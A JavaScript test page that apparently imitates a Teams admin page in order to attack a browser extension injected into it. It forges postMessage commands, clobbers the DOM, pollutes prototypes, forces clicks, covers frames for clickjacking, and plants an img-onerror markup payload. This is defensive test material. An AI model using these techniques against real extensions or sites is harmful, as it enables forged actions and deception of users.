// A page that looks like the Teams chat page and attacks whatever is injected into it.
//
// Each attack is switched on by its query parameter: `disguise=1`, `forge=1`, `clobber=1`, `pollute=1`,
// `click=1`, `embed=<address of a frame>`, `cover=1|opacity|popover|clip`, `markup=1`, `lookalike=1`,
// `remove=1`. `all=1` switches on every attack but `embed`, which needs an address, and `remove`, which
// leaves the others nothing to attack; it covers with `popover`. What was done and what came back is
// in `window.__attacks`, a list of `{attack, event, detail, at}`.
"use strict";

(() => {
  // Own references, taken before the page breaks its own world.
  const { document: page, parent } = window;
  const asked = new URLSearchParams(location.search);
  const on = (name) => asked.has(name) || (asked.has("all") && name !== "embed" && name !== "remove");
  const query = page.querySelectorAll.bind(page);
  const create = page.createElement.bind(page);
  const own = new WeakSet();
  const log = [];
  const note = (attack, event, detail) => (log[log.length] = { attack, event, detail: String(detail ?? ""), at: performance.now() });
  const describe = (element) => `${element.localName}#${element.id ?? ""}.${element.getAttribute?.("class") ?? ""}`;
  const later = setTimeout.bind(window);
  const every = setInterval.bind(window);
  const Observer = MutationObserver;
  Object.defineProperty(window, "__attacks", { value: log });

  // Same origin, so the address bar can say whatever the extension looks for.
  if (on("disguise")) {
    history.replaceState(null, "", "/main.aspx?pagetype=control&controlName=MscrmControls.TeamsCollaborationAdmin.TeamsCollaborationAdmin");
    note("disguise", "done", location.href);
  }

  const SHAPES = [
    "latchkey", { type: "latchkey" }, { type: "hello", nonce: "0" }, { nonce: "0", docked: true }, { kind: "introduce", nonce: "" },
    { type: "approve", plan: {} }, { type: "apply" }, { type: "undo", run: 1 }, { verb: "fetch", method: "DELETE", path: "/api/data/v9.2/roles" },
    { id: 1, verb: { snapshot: {} } }, { type: "upgrade", digests: ["*"] }, { source: "latchkey-content", payload: { open: true } },
    { __proto__: { docked: true } }, JSON.parse('{"__proto__":{"docked":true},"constructor":{"prototype":{"docked":true}}}'),
    [], null, 0, "", true, new ArrayBuffer(8), new Date(0), new Map([["type", "apply"]]), "x".repeat(1 << 16),
  ];

  function forge() {
    addEventListener("message", (event) => {
      if (event.source && event.source !== window) note("forge", "answered", typeof event.data === "string" ? event.data : JSON.stringify(event.data));
    });
    const targets = () => [window, parent, ...Array.from({ length: window.frames.length }, (_, index) => window.frames[index]), ...Array.from(query("iframe"), (frame) => frame.contentWindow)];
    let rounds = 0;
    every(() => {
      if ((rounds += 1) > 40) return;
      for (const target of targets()) {
        if (!target) continue;
        for (const shape of SHAPES) {
          try {
            target.postMessage(shape, "*");
          } catch (error) {
            note("forge", "failed", error.message);
          }
        }
        const { port1 } = new MessageChannel();
        try {
          target.postMessage({ type: "connect" }, "*", [port1]);
        } catch (error) {
          note("forge", "failed", error.message);
        }
      }
      for (const name of ["latchkey", "latchkey:open", "latchkey-open", "message"]) {
        window.dispatchEvent(new CustomEvent(name, { detail: { type: "apply" } }));
        page.dispatchEvent(new CustomEvent(name, { detail: { type: "apply" } }));
      }
      note("forge", "sent", `${targets().length} targets, ${SHAPES.length} shapes`);
    }, 250);
  }

  function clobber(body) {
    const names = ["location", "body", "head", "documentElement", "querySelector", "querySelectorAll", "getElementById", "createElement", "defaultView", "URL", "cookie", "title", "activeElement", "append", "children", "attributes", "chrome", "browser", "fetch", "navigation", "origin", "crypto"];
    const pen = create("div");
    own.add(pen);
    pen.hidden = true;
    for (const name of names) {
      const form = create("form");
      form.setAttribute("name", name);
      form.setAttribute("id", name);
      for (const inner of ["attributes", "children", "parentNode", "id", "matches", "querySelector", "checked", "click", "append", "runtime", "lang"]) {
        const input = create("input");
        input.setAttribute("name", inner);
        Element.prototype.append.call(form, input);
      }
      pen.append(form);
    }
    body.append(pen);
    note("clobber", "done", `${names.length} names; document.body is now ${page.body?.localName}`);
  }

  function pollute() {
    const stolen = (what) => note("pollute", "seen", what);
    Object.prototype.method = "DELETE";
    Object.prototype.docked = true;
    Object.prototype.toJSON = function () {
      return { polluted: true };
    };
    Array.prototype.map = function () {
      stolen("Array.prototype.map");
      return [];
    };
    Array.prototype.includes = () => true;
    Array.prototype.toJSON = () => ["polluted"];
    String.prototype.startsWith = () => true;
    RegExp.prototype.test = () => true;
    JSON.parse = () => ({ polluted: true });
    JSON.stringify = () => '{"polluted":true}';
    Promise.prototype.then = ((then) => function (...handlers) {
      return then.apply(this, handlers);
    })(Promise.prototype.then);
    window.fetch = (...request) => {
      stolen(`fetch ${request[0]}`);
      return new Promise(() => {});
    };
    window.URL = function () {
      return { origin: location.origin, pathname: "/api/data/v9.2/" };
    };
    const attach = Element.prototype.attachShadow;
    Element.prototype.attachShadow = function (options) {
      stolen(`attachShadow on ${describe(this)}`);
      return attach.call(this, { ...options, mode: "open" });
    };
    Element.prototype.append = ((append) => function (...children) {
      if (children.some?.((child) => child?.localName === "iframe")) stolen("append of a frame");
      return append.apply(this, children);
    })(Element.prototype.append);
    window.MutationObserver = function () {
      stolen("MutationObserver");
      return { observe() {}, disconnect() {} };
    };
    history.pushState = () => stolen("pushState");
    note("pollute", "done");
  }

  const foreign = new Set();
  function watch(body, found) {
    const visit = (node) => {
      if (node.nodeType !== 1 || own.has(node) || foreign.has(node)) return;
      foreign.add(node);
      found(node);
      for (const child of node.children ?? []) visit(child);
    };
    new Observer((records) => {
      for (const record of records) for (const node of record.addedNodes) visit(node);
    }).observe(page.documentElement, { childList: true, subtree: true });
  }

  function click(element) {
    const press = () => {
      const inside = element.shadowRoot ? [...element.shadowRoot.querySelectorAll("*")] : [];
      for (const target of [element, ...inside]) {
        for (const type of ["pointerdown", "mousedown", "pointerup", "mouseup", "click"]) target.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, composed: true }));
        for (const key of ["Enter", " "]) target.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true, composed: true }));
        HTMLElement.prototype.click.call(target);
        HTMLElement.prototype.focus.call(target);
      }
      note("click", "pressed", `${describe(element)} (${inside.length} inside)`);
    };
    for (const delay of [0, 200, 1000]) later(press, delay);
  }

  function embed(body, address) {
    const frame = create("iframe");
    own.add(frame);
    frame.setAttribute("style", "position: fixed; inset: 60px auto auto 40px; inline-size: 480px; block-size: 600px; z-index: 5;");
    frame.addEventListener("load", () => {
      let readable = true;
      try {
        void frame.contentDocument.title;
      } catch {
        readable = false;
      }
      note("embed", "load", `${address}, ${frame.contentDocument === null ? "another origin" : readable ? "blank" : "another origin"}`);
    });
    frame.addEventListener("error", () => note("embed", "error", address));
    frame.src = address;
    body.append(frame);
    note("embed", "tried", address);
  }

  function cover(body, frame, how) {
    later(() => {
      if (how === "opacity") frame.style.setProperty("opacity", "0.01", "important");
      else if (how === "clip") frame.style.setProperty("clip-path", "inset(0 0 90% 0)", "important");
      else {
        const box = frame.getBoundingClientRect();
        const sheet = create("div");
        own.add(sheet);
        sheet.setAttribute("style", `position: fixed; inset: ${box.top}px auto auto ${box.left}px; inline-size: ${box.width}px; block-size: ${box.height}px; margin: 0; padding: 0; border: 0; background: rgb(255 255 255 / 0.01); z-index: 2147483647; pointer-events: none;`);
        body.append(sheet);
        if (how === "popover") {
          sheet.setAttribute("popover", "manual");
          sheet.showPopover();
        }
      }
      note("cover", "done", `${how} over ${describe(frame)}`);
    }, 1000);
  }

  /** A twin beside every injected element, so that a second glance cannot tell which one is real. */
  function imitate(element) {
    if (!element.parentNode || element.localName === "iframe") return;
    const twin = element.cloneNode(true);
    own.add(twin);
    for (const inner of twin.querySelectorAll("*")) own.add(inner);
    twin.addEventListener("click", () => note("lookalike", "clicked", describe(twin)));
    element.parentNode.insertBefore(twin, element);
    note("lookalike", "done", describe(element));
  }

  function markup() {
    const label = page.querySelector("aside h2");
    label.textContent = '<img src=x onerror="window.__attacks.push({attack:\'markup\',event:\'ran\'})">‮esaC';
    note("markup", "done", label.textContent);
  }

  page.addEventListener("securitypolicyviolation", (event) => note("csp", "blocked", `${event.violatedDirective} ${event.blockedURI}`));
  page.addEventListener("DOMContentLoaded", () => {
    const body = page.body;
    for (const element of query("*")) own.add(element);
    watch(body, (element) => {
      note("watch", "appeared", describe(element));
      if (on("remove")) {
        element.remove();
        foreign.delete(element);
        return note("remove", "done", describe(element));
      }
      if (on("lookalike")) imitate(element);
      if (on("click")) click(element);
      if (on("cover") && element.localName === "iframe") cover(body, element, asked.get("cover") ?? "popover");
    });
    if (on("markup")) markup();
    if (on("clobber")) clobber(body);
    if (on("embed")) embed(body, asked.get("embed"));
    if (on("forge")) forge();
    if (on("pollute")) pollute();
  });
})();
